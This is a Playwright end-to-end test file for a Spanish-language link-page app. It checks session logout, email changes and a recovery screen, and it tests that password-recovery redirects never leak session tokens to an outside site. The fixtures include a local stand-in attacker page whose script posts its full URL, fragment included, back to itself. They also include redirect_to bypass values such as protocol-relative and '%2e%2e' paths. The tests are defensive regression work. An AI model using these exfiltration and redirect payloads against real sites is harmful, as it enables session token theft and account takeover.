import { mkdirSync } from 'node:fs';
import { type IncomingHttpHeaders, type Server, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import AxeBuilder from '@axe-core/playwright';
import { type Browser, type Page, expect, test } from '@playwright/test';
import { startSmtpInbox, type SmtpInbox } from '../src/server/test/smtp-inbox';
import { PASSWORD, uniqueEmail } from './support/accounts';
import { OwnerApi } from './support/api';
import { type RunningServer, startServer } from './support/server';

/**
 * Issue 33's N-1 chain in Chromium: a genuine recovery mail asked for with redirect_to pointing at
 * the site's own /go (or an old slug, or another site) must never hand the victim's session to the
 * outside site that /go leads to; and a fragment never rides a redirect out of the site. A local
 * listener stands in for the outside site: its page reports its whole URL back, as an attacker's
 * would, and every request it gets is kept (URL, headers, body).
 */

interface Seen {
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/** The outside site: /robar reports its own address (fragment included) back; /salto redirects there. */
async function startOutsideSite(): Promise<{ origin: string; seen: Seen[]; close(): Promise<void> }> {
  const seen: Seen[] = [];
  const server: Server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      seen.push({ url: request.url ?? '', headers: request.headers, body: Buffer.concat(chunks).toString('utf8') });
      if (request.url?.startsWith('/salto')) {
        response.writeHead(302, { location: '/robar' }).end();
      } else if (request.url?.startsWith('/robar') || request.url?.startsWith('/web')) {
        response
          .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
          .end(`<!doctype html><title>Fuera</title><h1>Fuera</h1><script>fetch('/informe', { method: 'POST', body: location.href }).then(() => { document.title = 'Informado'; });</script>`);
      } else {
        response.writeHead(204).end();
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, seen, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

const SECRET = /access_token|refresh_token/;
const everythingSeen = (seen: Seen[]) => seen.map((request) => `${request.url}\n${JSON.stringify(request.headers)}\n${request.body}`).join('\n---\n');
const linkIn = (text: string | undefined) => /(https?:\/\/\S+\/auth\/v1\/verify\S+)/.exec(text ?? '')?.[1] ?? '';

let inbox: SmtpInbox;
let server: RunningServer;
let outside: Awaited<ReturnType<typeof startOutsideSite>>;

test.beforeAll(async () => {
  // A server started from source takes a while on a busy machine.
  test.setTimeout(180_000);
  inbox = await startSmtpInbox();
  outside = await startOutsideSite();
  server = await startServer({ env: { SMTP_URL: inbox.url, RATE_LIMIT_SIGNUP: '1000', RATE_LIMIT_TOKEN: '1000', RATE_LIMIT_RECOVER: '1000' } });
});
test.afterAll(async () => {
  await server?.stop();
  await outside?.close();
  await inbox?.close();
});

/** A confirmed account (signed up through the API, confirmed through its mailed link); answers its session's access token. */
async function confirmedAccount(email: string): Promise<string> {
  const base = server.baseURL;
  const anonKey = ((await (await fetch(`${base}/api/config`)).json()) as { supabaseAnonKey: string }).supabaseAnonKey;
  const signUp = await fetch(`${base}/auth/v1/signup`, { method: 'POST', headers: { apikey: anonKey, 'content-type': 'application/json' }, body: JSON.stringify({ email, password: PASSWORD }) });
  expect(signUp.status).toBe(200);
  const confirmed = await fetch(linkIn((await inbox.waitFor(email)).text), { redirect: 'manual' });
  const fragment = new URLSearchParams(new URL(confirmed.headers.get('location') ?? '').hash.slice(1));
  const token = fragment.get('access_token');
  expect(token).toBeTruthy();
  return token as string;
}

/** Asks for a genuine recovery mail for `email`, landing wherever the attacker says; answers the mailed link. */
async function recoveryLinkFor(email: string, redirectTo: string, count: number): Promise<string> {
  const res = await fetch(`${server.baseURL}/auth/v1/recover?redirect_to=${encodeURIComponent(redirectTo)}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email }),
  });
  expect(res.status).toBe(200);
  return linkIn((await inbox.waitFor(email, count)).text);
}

test.describe('N-1: no token reaches the outside site', () => {
  let linkId: number;
  let contactId: number;
  let oldSlug: string;

  test.beforeAll(async () => {
    // The attacker's own page: a link block and a contact card leading to the outside site, and an old slug.
    const attacker = OwnerApi.withToken(server.baseURL, await confirmedAccount(uniqueEmail('atacante')));
    const page = await attacker.createPage('Trampa');
    oldSlug = page.slug;
    await attacker.updatePage(page.id, { slug: `${page.slug}-nueva` });
    linkId = (await attacker.addItem(page.id, { type: 'link', content: { url: `${outside.origin}/robar`, title: 'Premio' } })).id;
    contactId = (await attacker.addItem(page.id, { type: 'contactCard', content: { name: 'Eva', website: `${outside.origin}/web` } })).id;
  });

  test('a recovery mail asked to land on /go, an old slug or another site lands on /reset-password, and the outside site sees no token', async ({ page }) => {
    const base = server.baseURL;
    const targets = [
      `${base}/go/${linkId}`,
      `/go/${linkId}`,
      `${base}/go/${contactId}/website`,
      `${base}/view/${oldSlug}`,
      `${outside.origin}/robar`,
      `//127.0.0.1:${new URL(outside.origin).port}/robar`,
      `${base}/%2e%2e/go/${linkId}`,
    ];
    for (const target of targets) {
      outside.seen.length = 0;
      const victim = uniqueEmail('victima');
      await confirmedAccount(victim);
      const link = await recoveryLinkFor(victim, target, 2);
      expect(new URL(link).origin, 'the link points at PUBLIC_URL').toBe(base);
      await page.goto(link);
      // supabase-js has taken the session out of the fragment (an empty '#' is left).
      await expect(page, target).toHaveURL(`${base}/reset-password#`);
      await expect(page.getByRole('heading', { name: 'Nueva contraseña' })).toBeVisible();
      // The victim's own recovery still works: the form to choose a password is there.
      await expect(page.getByLabel('Nueva contraseña')).toBeVisible();
      expect(outside.seen, `${target}: ${everythingSeen(outside.seen)}`).toEqual([]);
    }
  });

  test('a fragment never rides a redirect out of the site (Chromium carries one through a plain 302: the control)', async ({ page }) => {
    const base = server.baseURL;
    const stolen = 'access_token=robado-123&refresh_token=robado-456&type=recovery';
    // The control: a redirect without a fragment of its own carries the URL's fragment on, and the
    // outside page reports it. This is what /go did before decision 118.
    outside.seen.length = 0;
    await page.goto(`${outside.origin}/salto#${stolen}`);
    await expect(page).toHaveTitle('Informado');
    expect(everythingSeen(outside.seen)).toMatch(SECRET);

    for (const [from, lands] of [
      [`/go/${linkId}`, '/robar'],
      [`/go/${contactId}/website`, '/web'],
    ] as const) {
      outside.seen.length = 0;
      await page.goto(`${base}${from}#${stolen}`);
      await expect(page).toHaveTitle('Informado');
      const report = outside.seen.find((request) => request.url === '/informe');
      expect(report?.body, from).toBe(`${outside.origin}${lands}#`);
      expect(everythingSeen(outside.seen), from).not.toMatch(SECRET);
      expect(page.url()).not.toMatch(SECRET);
    }

    // An old slug's 308 stays on the site, and drops the fragment too.
    await page.goto(`${base}/view/${oldSlug}#${stolen}`);
    await expect(page).toHaveURL(`${base}/view/${oldSlug}-nueva#`);
  });
});

test.describe("'Mi cuenta' on a phone", () => {
  test.use({ viewport: { width: 390, height: 844 } });

  async function signIn(page: Page, email: string, password = PASSWORD) {
    await page.goto(`${server.baseURL}/login`);
    await page.getByLabel('Correo Electrónico').fill(email);
    await page.getByLabel('Contraseña').fill(password);
    await page.locator('form').getByRole('button', { name: 'Iniciar Sesión' }).click();
    await expect(page.getByRole('banner').getByText(email)).toBeVisible();
  }

  async function otherDevice(browser: Browser, email: string) {
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
    const page = await context.newPage();
    await signIn(page, email);
    return { context, page };
  }

  /** Whether a device's stored session still opens /api (its token read from where supabase-js keeps it). */
  async function sessionWorks(page: Page): Promise<boolean> {
    const token = await page.evaluate(() => {
      const key = Object.keys(localStorage).find((name) => /^sb-.+-auth-token$/.test(name));
      return key ? ((JSON.parse(localStorage.getItem(key) ?? 'null') as { access_token?: string } | null)?.access_token ?? null) : null;
    });
    if (!token) return false;
    const res = await fetch(`${server.baseURL}/api/pages`, { headers: { authorization: `Bearer ${token}` } });
    return res.status === 200;
  }

  test("the header's 'Cerrar sesión' ends this device only; 'Cerrar sesión en todos los dispositivos' ends every one", async ({ page, browser }) => {
    const email = uniqueEmail('sesiones');
    await confirmedAccount(email);
    await signIn(page, email);
    const laptop = await otherDevice(browser, email);
    const stale = await page.evaluate(() => JSON.stringify(localStorage));

    await page.getByRole('button', { name: 'Cerrar sesión', exact: true }).click();
    await expect(page).toHaveURL(`${server.baseURL}/login`);
    expect(await sessionWorks(laptop.page)).toBe(true);
    // The phone's own session is over on the server, not only forgotten by the browser.
    await page.evaluate((saved) => {
      for (const [key, value] of Object.entries(JSON.parse(saved) as Record<string, string>)) localStorage.setItem(key, value);
    }, stale);
    expect(await sessionWorks(page)).toBe(false);
    await page.evaluate(() => localStorage.clear());

    await signIn(page, email);
    await page.getByRole('link', { name: /Mi cuenta/ }).click();
    await expect(page.getByRole('heading', { name: 'Mi cuenta', level: 1 })).toBeVisible();
    const everywhere = page.getByRole('button', { name: 'Cerrar sesión en todos los dispositivos' });
    await everywhere.scrollIntoViewIfNeeded();
    await expectNoViolations(page);
    await screenshots(page, 'account-sessions');
    await everywhere.click();
    await expect(page).toHaveURL(`${server.baseURL}/login`);
    await expect(page.getByText('Se ha cerrado tu sesión en todos los dispositivos.', { exact: true })).toBeVisible();
    expect(await sessionWorks(laptop.page)).toBe(false);
    await laptop.context.close();
  });

  test('the e-mail change asks for the password and says what went wrong in Spanish', async ({ page }) => {
    const email = uniqueEmail('cambio');
    await confirmedAccount(email);
    await signIn(page, email);
    await page.goto(`${server.baseURL}/account`);
    const next = uniqueEmail('nuevo');
    const form = page.locator('form').filter({ has: page.getByLabel('Nuevo correo electrónico') });
    await form.getByLabel('Nuevo correo electrónico').fill(next);
    await form.getByRole('button', { name: 'Cambiar correo' }).click();
    await expect(form.getByText('Escribe tu contraseña para cambiar el correo electrónico.')).toBeVisible();
    await expect(form.getByLabel('Tu contraseña')).toHaveAttribute('aria-invalid', 'true');
    await expectNoViolations(page);

    await form.getByLabel('Tu contraseña').fill('no-es-esta');
    await form.getByRole('button', { name: 'Cambiar correo' }).click();
    await expect(form.getByText('La contraseña actual no es correcta.')).toBeVisible();
    await expect(form.getByLabel('Tu contraseña')).toBeFocused();
    await screenshots(page, 'account-email-wrong-password');

    await form.getByLabel('Tu contraseña').fill(PASSWORD);
    await form.getByRole('button', { name: 'Cambiar correo' }).click();
    await expect(form.getByText(`Te hemos enviado un enlace a ${next}. Tu correo cambiará cuando lo abras.`)).toBeVisible();
    await expectNoViolations(page);

    // The new address confirms; the old one is told, with a link to undo it.
    await page.goto(linkIn((await inbox.waitFor(next)).text));
    await expect(page.getByRole('banner').getByText(next)).toBeVisible();
    const notice = await inbox.waitFor(email, 2);
    expect(notice.subject).toBe('El correo de tu cuenta de LinkHub ha cambiado');
    await page.goto(linkIn(notice.text));
    await expect(page).toHaveURL(`${server.baseURL}/reset-password#`);
    await expect(page.getByRole('heading', { name: 'Nueva contraseña' })).toBeVisible();
    await expect(page.getByRole('banner').getByText(email)).toBeVisible();
  });
});

test('without SMTP, the recovery screen says one thing and names whom to ask', async ({ page }) => {
  test.setTimeout(120_000);
  const plain = await startServer({ env: { ADMIN_CONTACT: 'admin@enlaces.example' } });
  try {
    for (const viewport of [{ width: 390, height: 844 }, { width: 1280, height: 800 }]) {
      await page.setViewportSize(viewport);
      await page.goto(`${plain.baseURL}/forgot-password`);
      await expect(page.getByRole('status')).toContainText('Este sitio no puede enviar correos');
      await expect(page.getByRole('link', { name: 'admin@enlaces.example' })).toHaveAttribute('href', 'mailto:admin@enlaces.example');
      await expect(page.getByText(/te enviaremos/)).toHaveCount(0);
      await expect(page.getByRole('button', { name: 'Enviar enlace' })).toHaveCount(0);
      await expectNoViolations(page);
    }
    await screenshots(page, 'forgot-password-no-mail');
  } finally {
    await plain.stop();
  }
});

async function expectNoViolations(page: Page) {
  const results = await new AxeBuilder({ page }).analyze();
  expect(results.violations.map((violation) => `${violation.id}: ${violation.nodes.map((node) => node.target.join(' ')).join(', ')}`)).toEqual([]);
}

/** With SCREENSHOT_DIR set, the screen on a phone (390 x 844) and a laptop (1280 x 800). */
async function screenshots(page: Page, name: string) {
  const dir = process.env.SCREENSHOT_DIR;
  if (!dir) return;
  mkdirSync(dir, { recursive: true });
  const original = page.viewportSize();
  for (const [label, size] of [['phone', { width: 390, height: 844 }], ['laptop', { width: 1280, height: 800 }]] as const) {
    await page.setViewportSize(size);
    await page.screenshot({ path: path.join(dir, `${name}-${label}.png`), fullPage: true });
  }
  if (original) await page.setViewportSize(original);
}
